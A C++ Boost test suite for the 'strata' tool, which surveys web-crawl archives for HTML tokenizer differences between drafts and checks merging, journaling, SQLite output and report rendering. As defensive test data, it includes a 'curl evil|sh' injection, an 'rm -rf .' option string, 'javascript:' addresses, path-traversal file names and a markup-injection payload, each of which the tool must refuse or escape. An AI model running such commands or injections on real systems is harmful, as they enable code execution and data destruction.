// Runs surveys end to end. The survey counts the differences that the pages contain, however the work is divided,
// stopped or repeated.

#include <boost/test/unit_test.hpp>

#include <signal.h>
#include <sqlite3.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <fcntl.h>
#include <cstdlib>
#include <memory>
#include <random>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "core/conformance/parsed_json.hpp"
#include "core/pages/page_record.hpp"
#include "core/run/configuration.hpp"
#include "tests/cli/program_fixture.hpp"
#include "tests/pages/made_crawl.hpp"

namespace survey_test {

namespace {

using namespace strata::testing;

struct survey_fixture : program_fixture {
    /// Surveys the drafts 2008 and modern. Returns the result as JSON.
    [[nodiscard]] std::string survey(std::vector<std::string> arguments) const {
        arguments.insert(arguments.begin(), {"survey", "--drafts=2008,modern", "--format=json"});
        const outcome o = strata(arguments);
        BOOST_TEST((o.status == 0 || (o.status == 2 && contains(o.err, "broken or damaged"))), o.err);
        return o.out;
    }
    /// Starts a survey with a journal, and kills it after `milliseconds`.
    void kill_after(int milliseconds, const std::string& archive, const std::string& journal) const {
        const std::string out = folder.path("killed");
        const pid_t child = fork();
        BOOST_REQUIRE(child >= 0);
        if (child == 0) {
            const int null = ::open("/dev/null", O_WRONLY);
            ::dup2(null, STDOUT_FILENO);
            const std::string option = "--journal=" + journal;
            ::execl(STRATA_PROGRAM, STRATA_PROGRAM, "survey", "--drafts=2008,modern", "--format=json", option.c_str(),
                    archive.c_str(), static_cast<char*>(nullptr));
            ::_exit(127);
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(milliseconds));
        ::kill(child, SIGKILL);
        int status = 0;
        ::waitpid(child, &status, 0);
    }
};

std::uint64_t number_in(const std::string& file, const char* sql) {
    sqlite3* opened = nullptr;
    BOOST_REQUIRE(sqlite3_open_v2(file.c_str(), &opened, SQLITE_OPEN_READONLY, nullptr) == SQLITE_OK);
    sqlite3_stmt* made = nullptr;
    BOOST_REQUIRE(sqlite3_prepare_v2(opened, sql, -1, &made, nullptr) == SQLITE_OK);
    BOOST_REQUIRE(sqlite3_step(made) == SQLITE_ROW);
    const auto number = static_cast<std::uint64_t>(sqlite3_column_int64(made, 0));
    sqlite3_finalize(made);
    sqlite3_close(opened);
    return number;
}

// Returns the number of pages for the tests. The environment variable STRATA_SURVEY_PAGES may set another number.
std::uint64_t pages_wanted() {
    const char* const given = std::getenv("STRATA_SURVEY_PAGES");  // NOLINT(concurrency-mt-unsafe)
    return given == nullptr ? 3000 : std::strtoull(given, nullptr, 10);
}

}  // namespace

BOOST_FIXTURE_TEST_SUITE(surveys, survey_fixture)

BOOST_AUTO_TEST_CASE(what_was_planted_is_counted) {
    const made_crawl crawl = crawl_of(0, pages_wanted());
    const std::string archive = folder.write("crawl.warc.gz", crawl.archive);
    const auto found = strata::report::parsed_json(survey({"--by=year,tld,encoding", archive}));
    BOOST_TEST(found.at("version") == 1);
    BOOST_TEST(found.at("pages") == crawl.pages);
    BOOST_TEST(found.at("differing") == crawl.slashes);
    BOOST_TEST(found.at("places") == crawl.slashes);
    BOOST_TEST(found.at("changes").size() == 1U);
    const auto& change = found.at("changes").at("self-closing-flag");
    BOOST_TEST(change.at("pages") == crawl.slashes);
    BOOST_TEST(change.at("places") == crawl.slashes);
    BOOST_TEST(change.at("examples").size() == 3U);
    BOOST_TEST(change.at("examples")[0].at("place").at("source") == "<br/>");
    BOOST_TEST(change.at("examples")[0].at("place").at("line") == 2);
    BOOST_TEST(found.at("encodings").at("KOI8-R") == crawl.koi8);
    BOOST_TEST(found.at("encodings").at("UTF-8") == crawl.pages - crawl.koi8);
    BOOST_TEST(found.at("skipped").at("status") == crawl.missing);
    BOOST_TEST(found.at("skipped").at("damaged member") == crawl.broken);
    for (const auto& [year, pages] : crawl.years) BOOST_TEST(found.at("by").at("year").at(year).at("pages") == pages);
    BOOST_TEST(found.at("by").at("encoding").at("KOI8-R").at("pages") == crawl.koi8);
    BOOST_TEST(found.at("errors").at("modern").empty());
    BOOST_TEST(found.at("perPage").at("places").at("most") == 1);
}

BOOST_AUTO_TEST_CASE(any_number_of_threads_and_any_order_of_inputs_give_the_same_bytes) {
    const std::string a = folder.write("a.warc.gz", crawl_of(0, 300).archive);
    const std::string b = folder.write("b.warc.gz", crawl_of(300, 200).archive);
    const std::string one = survey({"-j1", a, b});
    BOOST_TEST(survey({"-j7", a, b}) == one);
    BOOST_TEST(survey({"-j2", b, a}) == one);
    BOOST_TEST(survey({b, a, b, a}) == one);
}

BOOST_AUTO_TEST_CASE(merged_results_are_the_result_of_one_run) {
    const std::string a = folder.write("a.warc.gz", crawl_of(0, 300).archive);
    const std::string b = folder.write("b.warc.gz", crawl_of(300, 200).archive);
    const std::string c = folder.write("c.warc.gz", crawl_of(500, 100).archive);
    const std::string all = survey({a, b, c});
    const std::string of_a = folder.write("a.json", survey({a}));
    const std::string of_bc = folder.write("bc.json", survey({b, c}));
    const std::string of_ab = folder.write("ab.json", survey({a, b}));
    const auto merged = [&](const std::vector<std::string>& results) {
        std::vector<std::string> arguments = {"survey", "merge", "--format=json"};
        arguments.insert(arguments.end(), results.begin(), results.end());
        return strata(arguments).out;
    };
    BOOST_TEST(merged({of_a, of_bc}) == all);
    BOOST_TEST(merged({of_bc, of_a}) == all);
    BOOST_TEST(merged({of_bc, of_ab}) == all);  // both results have b
    BOOST_TEST(merged({of_bc, of_ab, of_a, of_bc}) == all);
    // The file has another name but equal contents, so it is the same input.
    const std::string copy = folder.write("z.warc.gz", crawl_of(0, 300).archive);
    BOOST_TEST(merged({of_bc, of_a, folder.write("z.json", survey({copy}))}) == all);
    const std::string other =
        folder.write("other.json", strata({"survey", "--drafts=2007,2008", "--format=json", a}).out);
    check_refused_with(strata({"survey", "merge", of_a, other}), "the results are of different surveys");
    check_refused_with(strata({"survey", "merge", folder.write("no.json", "{}")}), "not the result of a survey");
    check_refused_with(strata({"survey", "merge", folder.write("utf16.json", std::string("\xFF\xFE{\0}\0", 6))}),
                       "not the result of a survey: JSON must be UTF-8, but this is UTF-16");
    check_refused_with(strata({"survey", "merge"}), "there are no results to merge");
}

BOOST_AUTO_TEST_CASE(a_run_that_is_killed_at_any_point_goes_on_where_it_was) {
    const std::string archive = folder.write("crawl.warc.gz", crawl_of(0, pages_wanted()).archive);
    const std::string whole = survey({archive});
    const std::string journal = folder.path("journal");
    std::mt19937 random(20081224);
    for (int i = 0; i < 20; ++i) kill_after(static_cast<int>(random() % 60), archive, journal);
    BOOST_TEST(survey({"--journal=" + journal, archive}) == whole);
    BOOST_TEST(survey({"--journal=" + journal, archive}) == whole);  // the journal has everything, so nothing is left
                                                                     // to do
}

BOOST_AUTO_TEST_CASE(a_journal_cut_anywhere_is_gone_on_with) {
    const std::string archive = folder.write("crawl.warc.gz", crawl_of(0, 60).archive);
    const std::string journal = folder.path("journal");
    const std::string whole = survey({"--journal=" + journal, archive});
    const std::string text = folder.read("journal");
    for (std::size_t size = 0; size < text.size(); size += text.size() / 23) {
        (void)folder.write("journal", text.substr(0, size));
        BOOST_TEST(survey({"--journal=" + journal, archive}) == whole);
    }
    std::string wrong = text;
    wrong[text.size() / 2] ^= 1;
    (void)folder.write("journal", wrong);
    BOOST_TEST(survey({"--journal=" + journal, archive}) == whole);
}

BOOST_AUTO_TEST_CASE(a_journal_of_something_else_is_refused) {
    const std::string page = folder.write("a.html", "<br/>");
    const std::string journal = folder.path("journal");
    (void)survey({"--journal=" + journal, page});
    check_refused_with(strata({"survey", "--drafts=2007,2008", "--journal=" + journal, page}), "of another survey");
    const std::string mine = folder.write("mine.txt", "a text of mine");
    check_refused_with(strata({"survey", "--journal=" + mine, page}), "not a journal of a survey");
    BOOST_TEST(folder.read("mine.txt") == "a text of mine");
}

BOOST_AUTO_TEST_CASE(rows_are_a_database_with_a_row_for_each_page) {
    const made_crawl crawl = crawl_of(0, 300);
    const std::string archive = folder.write("crawl.warc.gz", crawl.archive);
    const std::string rows = folder.path("rows.sqlite");
    (void)survey({"--rows=" + rows, archive});
    BOOST_TEST(number_in(rows, "SELECT count(*) FROM pages") == crawl.pages);
    BOOST_TEST(number_in(rows, "SELECT count(*) FROM pages WHERE encoding = 'KOI8-R'") == crawl.koi8);
    BOOST_TEST(number_in(rows, "SELECT sum(places) FROM page_changes WHERE change = 'self-closing-flag'") ==
               crawl.slashes);
    BOOST_TEST(number_in(rows, "SELECT count(*) FROM skipped WHERE reason = 'status'") == crawl.missing);
    check_refused_with(strata({"survey", "--rows=" + rows, archive}), "exists already");
    // The survey writes only the file that the option names, and leaves a file with a similar name alone.
    (void)folder.write("mine.part", "mine");
    (void)survey({"--rows=" + folder.path("mine"), archive});
    BOOST_TEST(folder.read("mine.part") == "mine");
    BOOST_TEST(number_in(folder.path("mine"), "SELECT count(*) FROM pages") == crawl.pages);
    const outcome uri = strata({"survey", "--drafts=2008,modern", "--rows=file:uri?mode=memory", archive}, "",
                               "cd " + shell_word(folder.path("")) + " &&");
    BOOST_TEST(strata::testing::fs::exists(folder.path("file:uri?mode=memory")), uri.err);
    strata::testing::fs::create_symlink(folder.path("elsewhere"), folder.path("link"));
    check_refused_with(strata({"survey", "--rows=" + folder.path("no/rows"), archive}), "No such file");
    check_refused_with(strata({"survey", "--rows=" + folder.path("link"), archive}), "exists already");
    BOOST_TEST(!strata::testing::fs::exists(folder.path("elsewhere")));
    for (const auto& each : strata::testing::fs::directory_iterator(folder.path("")))
        BOOST_TEST(!contains(each.path().filename().string(), "sqlite."), each.path().string());
}

BOOST_AUTO_TEST_CASE(an_example_shows_what_the_drafts_make_of_it_only_if_its_excerpt_does) {
    const std::string page = folder.write("a.html", "<p>one<br/>two");
    const std::string report =
        strata({"survey", "--drafts=2008,modern", "--format=html", "--playground=play.html", page}).out;
    BOOST_TEST(report.find("How each draft reads this excerpt by itself") != std::string::npos);
    BOOST_TEST(report.find("Set the self-closing flag of the current tag token.") != std::string::npos);
    // "s0kq0rcDAA" is the packed form of "<br/>".
    BOOST_TEST(report.find("play.html#v=1&amp;d=2008,modern&amp;i=s0kq0rcDAA\"") != std::string::npos);
    const std::string merged = strata({"survey", "merge", "--format=html", folder.write("a.json", survey({page}))}).out;
    BOOST_TEST(merged.find("How each draft reads this excerpt by itself") != std::string::npos);
    BOOST_TEST(merged.find("play.html") == std::string::npos);
    // If a result names a file as a draft, strata does not read the file.
    std::string named = survey({page});
    for (std::size_t at = 0; (at = named.find("\"2008\"", at)) != std::string::npos;) named.replace(at, 6, "\"@-\"");
    named.replace(named.find("--drafts=2008"), 13, "--drafts=@-");
    const outcome of_file = strata({"survey", "merge", "--format=html", folder.write("b.json", named)}, "<p>");
    BOOST_TEST(of_file.status == 0, of_file.err);
    BOOST_TEST(!contains(of_file.out, "How each draft reads this excerpt by itself"));
    // The place is longer than the part of a page that the survey keeps.
    const std::string far = folder.write("far.html", "<a b" + std::string(400, 'x') + "/>");
    const std::string without = strata({"survey", "--drafts=2008,modern", "--format=html", far}).out;
    BOOST_TEST(without.find("self-closing-flag") != std::string::npos);
    BOOST_TEST(without.find("How each draft reads this excerpt by itself") == std::string::npos);
}

BOOST_AUTO_TEST_CASE(commands_to_copy_are_quoted_and_links_lead_to_pages_alone) {
    const std::string page = folder.write("it's $(a) page.html", "<br/>");
    const std::string text = strata({"survey", "--drafts=2008,modern+fragment=svg desc", "--format=html", page}).out;
    BOOST_TEST(contains(text, "strata compare '--drafts=2008,modern+fragment=svg desc' '"), text);
    BOOST_TEST(
        (contains(text, "it&#39;\\&#39;&#39;s $(a) page.html&#39;") || contains(text, "it'\\''s $(a) page.html'")));
    // A result may come from anyone, so the commands in a report must be safe.
    std::string edited = survey({page});
    for (std::size_t at = 0; (at = edited.find("2008", at)) != std::string::npos; at += 20)
        edited.replace(at, 4, "2008;curl evil|sh;#");
    check_refused_with(strata({"survey", "merge", "--format=html", folder.write("e.json", edited)}),
                       "the command and the terms do not agree");
    for (const std::string address :
         {"javascript:alert(1)", "JavaScript:x", "data:text/html,x", " https://a/", "vbscript:x"})
        check_refused_with(strata({"survey", "--format=html", "--playground=" + address, page}),
                           "not the address of a page");
    for (const std::string address :
         {"https://a.example/play.html", "play.html", "../p:q.html?x", "file:///a/b.html", "#x"})
        BOOST_TEST(
            strata({"survey", "--drafts=2008,modern", "--format=html", "--playground=" + address, page}).status == 0,
            address);
}

BOOST_AUTO_TEST_CASE(the_command_that_shows_an_example_keeps_the_surveys_options) {
    strata::pages::survey_terms terms;
    terms.drafts = {"2008", "modern"};
    terms.topics = {"tags", "comments"};
    terms.tokens_only = true;
    const auto command = [&](const std::string& options) {
        terms.options = options;
        return strata::pages::comparison_of(terms, terms.drafts, "-a b.html");
    };
    const std::string begin = "strata compare --drafts=2008,modern --topic=tags,comments --tokens-only";
    BOOST_TEST(command("") == begin + " -- '-a b.html'");
    for (const std::string options :
         {"--scripting=off", "'--fragment=svg svg' --foreign", "'--fragment=it'\\''s' --feedback=none"})
        BOOST_TEST(command(options) == begin + " " + options + " -- '-a b.html'");
    // A result of a stranger may have anything. It is refused if it has anything else.
    for (const std::string options : {"scripting off", "--foreign; rm -rf .", "--fragment=$(x)", "--rows=x",
                                      "--foreign 'b'", "--foreign  --foreign", "'--foreign", "=ls", "--fragment='a'b"})
        BOOST_TEST(!strata::pages::are_run_options(options), options);
}

BOOST_AUTO_TEST_CASE(the_command_that_shows_an_example_finds_the_texts_of_the_survey) {
    const std::string text = std::string(STRATA_SHARED_DIR) + "/drafts/2008-03-09.txt";
    if (!fs::exists(text)) {
        BOOST_TEST_MESSAGE("not tested: no file " << text);
        return;
    }
    const std::string page = folder.write("a.html", "<br/>");
    const auto survey_as = [&](const std::string& format, const std::string& base) {
        const outcome o = strata({"survey", "modern", "@" + text, "--base=" + base, "--format=" + format, page});
        BOOST_TEST(o.status == 0, o.err);
        return o.out;
    };
    const std::string shown = survey_as("html", "2009");
    BOOST_TEST(contains(shown, "strata compare --drafts=modern,@" + text + " --base=2009 " + page), shown);
    const std::string result = folder.write("r.json", survey_as("json", "2009"));
    const outcome merged = strata({"survey", "merge", "--format=html", result});
    BOOST_TEST(contains(merged.out, "strata compare --drafts=modern,@2008-03-09.txt --base=2009 "), merged.err);
    // Another base may give other tokens, so the results cannot be added up.
    check_refused_with(strata({"survey", "merge", result, folder.write("o.json", survey_as("json", "2007"))}),
                       "--base");
}

BOOST_AUTO_TEST_CASE(every_option_that_a_survey_records_may_be_in_a_command) {
    strata::run::choices all;
    all.initial_state = all.content_model = all.fragment = all.last_start_tag = "x y";
    all.foreign = true;
    all.simulates_feedback = false;
    all.scripting = false;
    all.page_encoding = all.default_encoding = strata::encoding::id::koi8_r;
    all.content_type = "text/html";
    std::string options;
    for (const std::string& each : strata::run::options_of(all))
        options += (options.empty() ? "" : " ") + strata::pages::shell_word(each);
    BOOST_TEST(strata::pages::are_run_options(options), options);
}

BOOST_AUTO_TEST_CASE(the_html_page_shows_a_command_that_reads_its_examples_in_the_same_way) {
    const std::string page = folder.write("a.html", "<br/>");
    const outcome o = strata({"survey", "--drafts=2008,2009", "--scripting=off", "--fragment=td",
                              "--encoding=windows-1252", "--format=html", page});
    BOOST_TEST(contains(o.out,
                        "strata compare --drafts=2008,2009 --fragment=td --scripting=off "
                        "--encoding=windows-1252 " +
                            page),
               o.out);
}

BOOST_AUTO_TEST_CASE(a_record_on_standard_input_gives_a_row_on_standard_output) {
    const outcome page = strata({"survey", "--drafts=2008,modern", "--by=tld", "--format=jsonl", "-"},
                                warc_record("response", "http://a.example/", response("<br/>")));
    BOOST_TEST(page.status == 0, page.err);
    const auto row = strata::report::parsed_json(page.out);
    BOOST_TEST(row.at("uri") == "http://a.example/");
    BOOST_TEST(row.at("changes").at("self-closing-flag").at("places") == 1);
    BOOST_TEST(row.at("drafts").at("modern").at("tokens") == 2);
    BOOST_TEST(row.at("fields").at("tld") == "example");
    const made_crawl crawl = crawl_of(0, 300);
    const outcome all = strata({"survey", "--drafts=2008,modern", "--format=jsonl", "-"}, crawl.archive);
    std::istringstream lines(all.out);
    std::size_t pages = 0;
    std::size_t places = 0;
    for (std::string line; std::getline(lines, line);) {
        const auto each = strata::report::parsed_json(line);
        if (each.contains("skipped")) continue;
        ++pages;
        places += each.at("places").get<std::size_t>();
    }
    BOOST_TEST(pages == crawl.pages);
    BOOST_TEST(places == crawl.slashes);
    check_refused_with(strata({"survey", "merge", "--format=jsonl", folder.write("a.json", survey({}))}),
                       "no lines for pages");
}

BOOST_AUTO_TEST_CASE(the_end_of_a_page_that_was_cut_short_makes_no_difference) {
    const std::string body = "<p>one<br/>two<p title=\"cut";
    const std::string record = warc_record("response", "http://a/", response(body));
    const auto found = [&](const std::string& archive) {
        return strata::report::parsed_json(survey({folder.write("a.warc", archive)}));
    };
    const auto whole = found(record);
    BOOST_TEST(whole.at("cutShort").empty());
    BOOST_TEST(whole.at("places") == 2);
    BOOST_TEST(whole.at("errors").at("modern").at("eof-in-tag") == 1);
    for (const std::string reason : {"length", "time", "disconnect", "unspecified"}) {
        std::string truncated = record;
        truncated.insert(truncated.find("WARC-Date"), "WARC-Truncated: " + reason + "\r\n");
        const auto cut = found(truncated);
        BOOST_TEST(cut.at("pages") == 1);
        BOOST_TEST(cut.at("skipped").empty());
        BOOST_TEST(cut.at("cutShort").size() == 1U);
        BOOST_TEST(cut.at("places") == 1);
        BOOST_TEST(cut.at("changes").size() == 1U);
        BOOST_TEST(!cut.at("errors").at("modern").contains("eof-in-tag"));
    }
    // The archive itself ends too early: inside the page, or inside a chunk.
    BOOST_TEST(found(record.substr(0, record.size() - 4)).at("places") == 2);
    BOOST_TEST(found(record.substr(0, record.size() - 6)).at("places") == 1);
}

BOOST_AUTO_TEST_CASE(a_list_leads_nowhere_out_of_its_folder) {
    const std::string record = warc_record("response", "http://a/", response("<br/>"));
    strata::testing::fs::create_directory(folder.path("archives"));
    strata::testing::fs::create_directory(folder.path("archives/inner"));
    (void)folder.write("secret.warc", record);
    (void)folder.write("archives/inner/a.warc", record);
    BOOST_REQUIRE(::mkfifo(folder.path("archives/pipe").c_str(), 0600) == 0);
    strata::testing::fs::create_symlink("../secret.warc", folder.path("archives/out.warc"));
    strata::testing::fs::create_symlink("/dev/zero", folder.path("archives/zero"));
    strata::testing::fs::create_symlink("inner/a.warc", folder.path("archives/in.warc"));
    const auto pages = [&](const std::string& name) {
        const std::string list =
            folder.write("list.jsonl", R"({"filename": ")" + name + R"(", "offset": 0, "length": )" +
                                           std::to_string(record.size()) + "}\n");
        const auto found = strata::report::parsed_json(survey({"--archives=" + folder.path("archives"), list}));
        BOOST_TEST(found.at("pages").get<int>() + found.at("skipped").value("broken coordinates", 0) == 1, name);
        return found.at("pages").get<int>();
    };
    for (const std::string& name :
         {std::string("../secret.warc"), folder.path("secret.warc"), std::string("inner/../../secret.warc"),
          std::string("out.warc"), std::string("zero"), std::string("/dev/zero"), std::string("pipe"),
          std::string("inner"), std::string(".."), std::string(""), std::string("/"), std::string("no.warc")})
        BOOST_TEST(pages(name) == 0, name);
    for (const std::string& name : {std::string("inner/a.warc"), std::string("./inner//a.warc"), std::string("in.warc"),
                                    std::string("/elsewhere/in.warc"), std::string("s3://bucket/in.warc")})
        BOOST_TEST(pages(name) == 1, name);
}

BOOST_AUTO_TEST_CASE(a_list_may_have_any_name_and_be_packed) {
    const std::string record = deflated(warc_record("response", "http://a/", response("<br/>")));
    (void)folder.write("crawl.warc.gz", record);
    const std::string size = std::to_string(record.size());
    const std::string json = R"({"filename": "crawl.warc.gz", "offset": 0, "length": )" + size + "}\n";
    const std::string cdx =
        " CDX N b a m s k r M S V g\norg,a)/ 20240101 http://a/ text/html 200 X - - " + size + " 0 crawl.warc.gz\n";
    for (const std::string& list : {json, "org,a)/ 20240101 " + json, cdx, "crawl.warc.gz,0," + size + "\n"})
        for (const std::string name : {"list.cdx", "list", "list.jsonl.gz", "list.csv.gz"}) {
            const bool packed = name.ends_with(".gz");
            const auto found = strata::report::parsed_json(
                survey({"--archives=" + folder.path(""), folder.write(name, packed ? deflated(list) : list)}));
            BOOST_TEST(found.at("pages") == 1, name << " " << list);
            BOOST_TEST(found.at("places") == 1);
            BOOST_TEST(found.at("skipped").empty());
        }
    // A record of length 0 is an error.
    const auto empty = strata::report::parsed_json(
        survey({"--archives=" + folder.path(""), folder.write("empty.csv", "crawl.warc.gz,0,0\n")}));
    BOOST_TEST(empty.at("skipped").at("broken coordinates") == 1);
    // The survey reports a damaged list as damaged, and reads the part before the damage.
    std::string many;
    for (int i = 0; i < 2000; ++i) many += "crawl.warc.gz,0," + size + "\n";
    const std::string packed = deflated(many);
    const auto cut = strata::report::parsed_json(
        survey({"--archives=" + folder.path(""), folder.write("cut.csv.gz", packed.substr(0, packed.size() / 2))}));
    BOOST_TEST(cut.at("skipped").at("damaged member") == 1);
    BOOST_TEST(cut.at("pages") > 100);
}

BOOST_AUTO_TEST_CASE(counts_are_divided_by_what_a_list_says) {
    const std::string record = deflated(warc_record("response", "http://a/", response("<br/>")));
    (void)folder.write("crawl.warc.gz", record);
    const auto line = [&](const std::string& more) {
        return R"({"filename": "crawl.warc.gz", "offset": 0, "length": )" + std::to_string(record.size()) + more +
               "}\n";
    };
    const std::string list =
        folder.write("list.jsonl", line(R"(, "languages": "deu")") + line(R"(, "languages": "eng")") +
                                       line(R"(, "languages": "eng")") + line(""));
    const auto found =
        strata::report::parsed_json(survey({"--archives=" + folder.path(""), "--by=list:languages,year", list}));
    const auto& by = found.at("by").at("list:languages");
    BOOST_TEST(by.at("eng").at("pages") == 2);
    BOOST_TEST(by.at("deu").at("changes").at("self-closing-flag").at("places") == 1);
    BOOST_TEST(by.at("").at("pages") == 1);
    check_refused_with(strata({"survey", "--by=list:", list}), "unknown field");
}

BOOST_AUTO_TEST_CASE(pages_come_from_files_lists_and_standard_input) {
    const std::string first = deflated(warc_record("response", "http://a/", response("<br/>")));
    const std::string second = deflated(warc_record("response", "http://b/", response("<hr/>")));
    (void)folder.write("crawl.warc.gz", first + second);
    const std::string list = folder.write("list.jsonl", "{\"filename\": \"segments/crawl.warc.gz\", \"offset\": \"" +
                                                            std::to_string(first.size()) + "\", \"length\": \"" +
                                                            std::to_string(second.size()) + "\"}\nbad\n");
    const std::string root = folder.path("");
    const auto by_list = strata::report::parsed_json(survey({"--archives=" + root, list}));
    BOOST_TEST(by_list.at("pages") == 1);
    BOOST_TEST(by_list.at("changes").at("self-closing-flag").at("examples")[0].at("uri") == "http://b/");
    BOOST_TEST(by_list.at("changes").at("self-closing-flag").at("examples")[0].at("offset") == first.size());
    BOOST_TEST(by_list.at("skipped").at("broken coordinates") == 1);
    const outcome piped = strata({"survey", "--drafts=2008,modern", "--format=json", "-"}, second);
    BOOST_TEST(strata::report::parsed_json(piped.out).at("pages") == 1);
    const std::string page = folder.write("page.html", "<p>x<br/>");
    BOOST_TEST(strata::report::parsed_json(survey({page})).at("changes").at("self-closing-flag").at("pages") == 1);
}

BOOST_AUTO_TEST_CASE(an_input_that_cannot_be_read_is_reported_and_the_others_count) {
    const std::string page = folder.write("a.html", "<br/>");
    const outcome o = strata({"survey", "--drafts=2008,modern", "--format=json", folder.path("none"), page});
    BOOST_TEST(o.status == 2);
    BOOST_TEST(contains(o.err, "No such file or directory"));
    BOOST_TEST(strata::report::parsed_json(o.out).at("pages") == 1);
}

BOOST_AUTO_TEST_CASE(long_pages_are_read_in_part) {
    const std::string page = folder.write("a.html", "<br/>" + std::string(5000, 'x') + "<br/>");
    const auto found = strata::report::parsed_json(survey({"--max-page=1", page}));
    BOOST_TEST(found.at("bytes") == 1024);
    BOOST_TEST(found.at("places") == 1);
    BOOST_TEST(found.at("cutShort").size() == 1U);
}

BOOST_AUTO_TEST_CASE(topics_choose_which_changes_count) {
    const std::string page = folder.write("a.html", "<br/><!-- a -- b -->");
    const auto of_tags = strata::report::parsed_json(survey({"--topic=tags", page}));
    BOOST_TEST(of_tags.at("changes").contains("self-closing-flag"));
    BOOST_TEST(of_tags.at("changes").size() == 1U);
    const auto all = strata::report::parsed_json(survey({page}));
    BOOST_TEST(all.at("changes").size() > 1U);
}

// A result may come from anyone, and may name changes that this version does not know.
BOOST_AUTO_TEST_CASE(the_name_of_a_change_does_not_become_markup) {
    const std::string name = "self-closing-flag";
    std::string hostile = survey({folder.write("a.html", "<br/>")});
    for (std::size_t at = 0; (at = hostile.find(name, at)) != std::string::npos;)
        hostile.replace(at, name.size(), "\\\"><b>");
    const outcome page = strata({"survey", "merge", "--format=html", folder.write("hostile.json", hostile)});
    BOOST_TEST(page.status == 0, page.err);
    BOOST_TEST(contains(page.out, "id=\"c-&quot;&gt;&lt;b&gt;\""), page.out);
    BOOST_TEST(!contains(page.out, "\"><b>"));
}

BOOST_AUTO_TEST_CASE(reports_name_changes_and_show_examples) {
    const std::string archive = folder.write("crawl.warc.gz", crawl_of(0, 200).archive);
    const std::string text = strata({"survey", "--drafts=2008,modern", archive}).out;
    BOOST_TEST(contains(text, "self-closing-flag, 2008-04-05 1ff9688a: "));
    BOOST_TEST(contains(text, "Self-closing flag in place of the permitted slash"));
    BOOST_TEST(contains(text, "By year"));
    const std::string page = strata({"survey", "--drafts=2008,modern", "--format=html", archive}).out;
    BOOST_TEST(page.starts_with("<!DOCTYPE html>"));
    BOOST_TEST(contains(page, "<title>Survey of 2008, modern</title>"));
    BOOST_TEST(page.ends_with("</html>\n"));
    BOOST_TEST(contains(page, "id=\"c-self-closing-flag\""));
    BOOST_TEST(contains(page, "class=\"by-year\""));
    BOOST_TEST(contains(page, "<mark>&lt;br/&gt;</mark>"));
    BOOST_TEST(contains(page, "default-src 'none'"));
    const std::string markdown = strata({"survey", "--drafts=2008,modern", "--format=markdown", archive}).out;
    BOOST_TEST(markdown.starts_with("# Survey of 2008, modern\n"));
    BOOST_TEST(contains(markdown, "\n### Self-closing flag in place of the permitted slash\n"));
    BOOST_TEST(contains(markdown, "<details><summary>3 examples</summary>"), markdown);
}

BOOST_AUTO_TEST_SUITE_END()

}  // namespace survey_test
